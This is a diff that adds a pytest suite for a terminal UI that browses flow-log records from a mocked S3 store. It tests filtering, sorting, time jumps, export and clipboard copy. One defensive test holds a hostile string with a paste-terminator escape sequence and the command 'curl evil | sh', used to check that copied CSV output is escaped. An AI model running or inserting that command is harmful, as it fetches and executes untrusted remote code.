@@ -1,0 +1,351 @@
+"""Filter bar, quick filters, sort, go to time and export, driven by keys against moto S3."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as pq
+import pytest
+
+from flowtui.ui.app import FlowtuiApp
+from flowtui.ui.export.control import view_csv
+from flowtui.ui.prompt.history import state_dir
+from tests.ui_helpers import screen_text, wait_for
+
+
+def text(pilot: Any) -> str:
+    return "\n".join(screen_text(pilot))
+
+
+async def loaded(pilot: Any, app: FlowtuiApp) -> None:
+    await wait_for(pilot, lambda: app.job is not None and not app.job.status.running
+                   and app.job.worker is not None and app.job.worker.is_finished,
+                   timeout=30, what="load finished")
+    app.table.refresh_now()
+    app.table.focus()
+    await pilot.pause()
+
+
+def rows(app: FlowtuiApp) -> list[dict[str, object]]:
+    source = app.table.store
+    assert source is not None
+    return source.rows(0, len(source))
+
+
+def store_rows(app: FlowtuiApp) -> list[dict[str, object]]:
+    store = app.main_screen.records
+    assert store is not None
+    return store.rows(0, len(store))
+
+
+async def to_column(pilot: Any, app: FlowtuiApp, name: str) -> None:
+    """Move the cell cursor to column ``name`` with the keyboard."""
+    await pilot.press("0")
+    for _ in range(len(app.table.columns)):
+        if app.table.current_column == name:
+            return
+        await pilot.press("l")
+    raise AssertionError(f"no column {name}")
+
+
+async def sorted_done(pilot: Any, app: FlowtuiApp) -> None:
+    await wait_for(pilot, lambda: not app.sorts.running and not app.status.note
+                   and app.main_screen.view is not None and not app.main_screen.view.stale,
+                   timeout=20, what="sort finished")
+
+
+def rejected_on_22(row: dict[str, object]) -> bool:
+    return row["action"] == "REJECT" and 22 in (row["srcport"], row["dstport"])
+
+
+async def test_a_filter_typed_with_an_error_then_fixed(s3_server: Any, s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        total = app.table.row_count
+        await pilot.press("slash")
+        assert app.main_screen.prompt.is_open
+        await pilot.press(*"reject and prot = 22")
+        message = app.main_screen.prompt.message
+        assert "unknown field 'prot'" in message and "^" in message
+        # the caret sits under the bad word: same column on screen as the 'p' of 'prot'
+        lines = screen_text(pilot)
+        typed = next(i for i, line in enumerate(lines) if "reject and prot = 22" in line)
+        assert lines[typed + 1].index("^") == lines[typed].index("prot = 22")
+        await pilot.press("enter")  # refused: nothing applied, the bar stays
+        assert app.main_screen.prompt.is_open and app.table.row_count == total
+        for _ in range(len(" = 22")):
+            await pilot.press("backspace")
+        await pilot.press("backspace", "backspace", "backspace", "backspace")
+        await pilot.press(*"port 22")
+        assert "Enter applies" in app.main_screen.prompt.message
+        await pilot.press("enter")
+        expected = [r for r in store_rows(app) if rejected_on_22(r)]
+        assert 0 < len(expected) < total
+        assert not app.main_screen.prompt.is_open and app.focused is app.table
+        assert rows(app) == expected
+        screen = text(pilot)
+        assert f"{len(expected):,} of {total:,} match" in screen
+        assert "filter reject › port 22" in screen
+        # kept across runs, in the state directory the tests point elsewhere
+        assert (state_dir() / "filter-history").read_text().splitlines() == [
+            "reject and port 22"]
+        # Esc closes the bar; a second Esc (in the table) clears the filter
+        await pilot.press("slash")
+        await pilot.press("escape")
+        assert not app.main_screen.prompt.is_open and app.table.row_count == len(expected)
+        await pilot.press("escape")
+        assert app.table.row_count == total and "match" not in text(pilot)
+        # ↑ in the bar brings the filter back
+        await pilot.press("slash", "up")
+        assert app.main_screen.prompt.input.value == "reject and port 22"
+        await pilot.press("enter")
+        assert app.table.row_count == len(expected)
+
+
+async def test_completion_of_field_names_and_seen_values(s3_server: Any,
+                                                         s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        interface = store_rows(app)[0]["interface-id"]
+        assert isinstance(interface, str)
+        await pilot.press("slash", *"interf")
+        box = app.main_screen.prompt.input
+        await pilot.press("tab")
+        assert box.value == "interface-id"
+        await pilot.press(*" = ", *interface[:6])
+        await pilot.press("tab")
+        assert box.value.startswith(f"interface-id = {interface[:6]}")
+        seen = {r["interface-id"] for r in store_rows(app)}
+        assert box.value.removeprefix("interface-id = ") in seen
+
+
+async def test_quick_filters_from_the_cursor_and_pop(s3_server: Any, s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        everything = store_rows(app)
+        await to_column(pilot, app, "dstport")
+        port = rows(app)[0]["dstport"]
+        await pilot.press("equals_sign")
+        assert app.main_screen.shown.where_text == f"dstport = {port}"
+        assert rows(app) == [r for r in everything if r["dstport"] == port]
+        # the breadcrumb and the bar show the same text, to refine it
+        assert f"filter dstport = {port}" in text(pilot)
+        # an address, excluded: in both directions (``not host X``)
+        await to_column(pilot, app, "srcaddr")
+        address = rows(app)[0]["srcaddr"]
+        await pilot.press("exclamation_mark")
+        assert rows(app) == [r for r in everything if r["dstport"] == port
+                             and address not in (r["srcaddr"], r["dstaddr"])]
+        assert f"dstport = {port} › not host {address}" in text(pilot)
+        await to_column(pilot, app, "action")
+        action = rows(app)[0]["action"]
+        await pilot.press("plus")
+        assert app.main_screen.shown.where_text.endswith(f"and action = {action}")
+        assert rows(app) == [r for r in everything if r["dstport"] == port
+                             and address not in (r["srcaddr"], r["dstaddr"])
+                             and r["action"] == action]
+        # Backspace pops the last step, one at a time
+        await pilot.press("backspace")
+        assert app.main_screen.shown.where_text == f"dstport = {port} and not host {address}"
+        await pilot.press("backspace", "backspace")
+        assert app.main_screen.shown.where_text == ""
+        assert app.table.row_count == len(everything) and "filter" not in text(pilot)
+
+
+async def test_sort_cycles_on_the_column_under_the_cursor(s3_server: Any,
+                                                          s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        load_order = store_rows(app)
+        await to_column(pilot, app, "bytes")
+        await pilot.press("s")
+        await sorted_done(pilot, app)
+        shown = rows(app)
+        values = [r["bytes"] for r in shown if r["bytes"] is not None]
+        assert values == sorted(values) and shown[-1]["bytes"] is None  # nulls last
+        header = next(line for line in screen_text(pilot) if "││! " in line)
+        assert "bytes ▲" in header and "sort bytes ▲" in text(pilot)
+        await pilot.press("s")
+        await sorted_done(pilot, app)
+        values = [r["bytes"] for r in rows(app) if r["bytes"] is not None]
+        assert values == sorted(values, reverse=True)
+        assert "bytes ▼" in text(pilot) and app.table.cursor_row == 0
+        assert app.detail.record_index == 0
+        await pilot.press("s")
+        await wait_for(pilot, lambda: app.main_screen.view is None, what="sort off")
+        assert rows(app) == load_order
+        assert "bytes " in text(pilot) and "▼" not in text(pilot) and "▲" not in text(pilot)
+
+
+async def test_go_to_time_jumps_to_the_first_record_at_or_after(s3_server: Any,
+                                                                s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        starts = sorted(r["start"] for r in store_rows(app) if r["start"] is not None)
+        middle = starts[len(starts) // 2]
+        moment = datetime.fromtimestamp(middle, tz=UTC)
+        clock = f"{moment:%H:%M}"
+        target = int(moment.replace(second=0).timestamp())
+        await pilot.press("at", *clock)
+        assert "Enter goes to the first record at or after" in app.main_screen.prompt.message
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: not app.sorts.running and not app.status.note,
+                       timeout=20, what="go to time done")
+        await wait_for(pilot, lambda: app.table.cursor_row > 0, what="cursor moved")
+        shown = rows(app)
+        row = app.table.cursor_row
+        assert shown[row]["start"] >= target  # type: ignore[operator]
+        assert all(r["start"] < target for r in shown[:row])  # type: ignore[operator]
+        # a bad time says why, under the input, and goes nowhere
+        await pilot.press("at", *"25:99")
+        assert "not a time" in app.main_screen.prompt.message
+        await pilot.press("enter")
+        assert app.table.cursor_row == row
+        await pilot.press("escape")
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
+async def test_export_writes_the_view_as_shown(s3_server: Any, s3_client: Any,
+                                               tmp_path: Path, suffix: str) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(160, 48)) as pilot:
+        await loaded(pilot, app)
+        await pilot.press("slash", *"reject", "enter")
+        await to_column(pilot, app, "bytes")
+        await pilot.press("s", "s")  # descending
+        await sorted_done(pilot, app)
+        expected = rows(app)
+        columns = app.table.view_columns
+        assert "version" in columns and "version" not in app.table.columns  # folded
+        await pilot.press("w")
+        box = app.main_screen.prompt.input
+        assert box.value == "2024-03-05_reject.csv" or box.value.endswith("_reject.csv")
+        target = tmp_path / f"rejects{suffix}"
+        box.value = str(target)
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: target.exists() and not app.status.note, timeout=20,
+                       what="export written")
+        await wait_for(pilot, lambda: any(f"Wrote {len(expected):,} rows to {target}"
+                                          == n.message for n in app._notifications),
+                       what="rows written, in a notification")
+        if suffix == ".parquet":
+            back = pq.read_table(target).to_pylist()
+            assert back == [{c: r.get(c) for c in columns} for r in expected]
+        elif suffix == ".jsonl":
+            back = [json.loads(line) for line in target.read_text().splitlines()]
+            assert back == [{c: r.get(c) for c in columns} for r in expected]
+        else:
+            with target.open(newline="") as handle:
+                read = list(csv.reader(handle))
+            assert read[0] == columns
+            assert read[1:] == [["" if r.get(c) is None else str(r.get(c)) for c in columns]
+                                for r in expected]
+
+
+async def test_copy_rows_as_csv_carries_no_control_characters(s3_server: Any,
+                                                              s3_client: Any) -> None:
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    copied: list[str] = []
+    async with app.run_test(size=(160, 48)) as pilot:
+        app.copy_to_clipboard = copied.append  # type: ignore[method-assign]
+        await loaded(pilot, app)
+        await pilot.press("slash", *"reject and port 22", "enter")
+        await pilot.press("C")
+        assert copied, "nothing copied"
+        lines = copied[0].split("\n")
+        assert lines[0].split(",") == app.table.view_columns
+        body = [line for line in lines[1:] if line]
+        assert len(body) == min(500, app.table.row_count)  # a small view whole, else its top
+        assert list(csv.reader(body[:3])) == [
+            ["" if r.get(c) is None else str(r.get(c)) for c in app.table.view_columns]
+            for r in rows(app)[:3]]
+        assert all(line.isprintable() for line in lines)
+
+
+def test_clipboard_csv_escapes_what_could_end_a_bracketed_paste() -> None:
+    hostile = "x\x1b[201~\ncurl evil | sh\r\x9b31m\u202eabc"
+    copied, count = view_csv([{"note": hostile, "n": 1}, {"note": None, "n": 2}],
+                             ["note", "n"])
+    assert count == 2
+    assert all(line.isprintable() for line in copied.split("\n"))
+    assert "\\x1b[201~" in copied and "\\u202e" in copied
+    assert copied.count("\n") == 3  # header and two rows: the only control characters
+
+
+async def test_a_filter_during_a_tail_shows_only_matching_new_rows(s3_server: Any,
+                                                                   s3_client: Any,
+                                                                   raw_s3: Any) -> None:
+    from tests.tail_helpers import Bucket, lines_ports
+    from tests.test_ui_tail import ACCOUNT, M, T, options, poll, started
+
+    bucket = Bucket(raw_s3, "ui-filter-tail")
+    bucket.put(T - 15 * M)  # the starting point, not shown
+    app = FlowtuiApp(None, client=s3_client, follow=bucket.url(ACCOUNT),
+                     tail_options=options())
+    async with app.run_test(size=(160, 48)) as pilot:
+        await started(pilot, app)
+        await pilot.press("slash", *"srcport > 30000", "enter")
+        assert app.main_screen.shown.where_text == "srcport > 30000"
+        first = bucket.put(T - 10 * M, n=40)
+        await poll(pilot, app)
+        wanted = [p for p in lines_ports(first) if p is not None and p > 30000]
+        await wait_for(pilot, lambda: app.table.row_count == len(wanted), what="matches shown")
+        second = bucket.put(T - 5 * M, n=40)
+        await poll(pilot, app)
+        wanted += [p for p in lines_ports(second) if p is not None and p > 30000]
+        await wait_for(pilot, lambda: app.table.row_count == len(wanted), what="more matches")
+        assert [r["srcport"] for r in rows(app)] == wanted
+        store = app.main_screen.records
+        assert store is not None and len(store) == 80
+        assert f"{len(wanted):,} of 80 match" in text(pilot)
+        assert app.table.cursor_row == len(wanted) - 1  # following the matching rows
+
+
+
+async def test_a_filter_set_during_a_load_applies_to_the_rest_of_it(
+        s3_server: Any, fault_proxy: Any, proxy_client: Any) -> None:
+    fault_proxy.stall_after(100_000, times=20)  # the load waits with some rows in
+    app = FlowtuiApp(s3_server.find("big").url, client=proxy_client)
+    async with app.run_test(size=(80, 24)) as pilot:
+        await wait_for(pilot, lambda: app.table.row_count > 0 and fault_proxy.stalled.is_set(),
+                       what="the first rows, then a stall")
+        await pilot.press("slash", *"reject and port 22", "enter")
+        assert app.job is not None and app.job.status.running
+        assert rows(app) and all(rejected_on_22(r) for r in rows(app))
+        fault_proxy.release()
+        await loaded(pilot, app)
+        expected = [r for r in store_rows(app) if rejected_on_22(r)]
+        assert len(store_rows(app)) == 30_000 and rows(app) == expected
+        assert f"{len(expected):,} of 30,000 match" in text(pilot)
+
+
+async def test_help_and_palette_list_the_new_keys(s3_server: Any, s3_client: Any) -> None:
+    from flowtui.ui.commands import app_commands
+    from flowtui.ui.help import _bindings_of
+
+    app = FlowtuiApp(s3_server.find("big").url, client=s3_client)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await loaded(pilot, app)
+        ids = {ident for node in (app, app.table, app.main_screen.prompt)
+               for _keys, _what, ident in _bindings_of(node)}
+        assert {"app.filter", "table.filter", "app.go-to-time", "app.export", "app.copy-view",
+                "table.keep-value", "table.exclude-value", "table.pop-filter", "table.sort",
+                "prompt.close", "prompt.older", "prompt.newer", "prompt.complete"} <= ids
+        names = {command.name for command in app_commands(app)}
+        assert {"Filter records", "Keep only this value", "Exclude this value",
+                "Undo last filter step", "Clear filter", "Sort by this column", "Go to time",
+                "Export view to a file", "Copy rows as CSV"} <= names
+        footer = screen_text(pilot)[-1]
+        assert "/ Filter" in footer and "s Sort" in footer  # the table's keys come first
+        await pilot.resize_terminal(200, 40)
+        await pilot.pause()
+        assert "w Export" in screen_text(pilot)[-1]
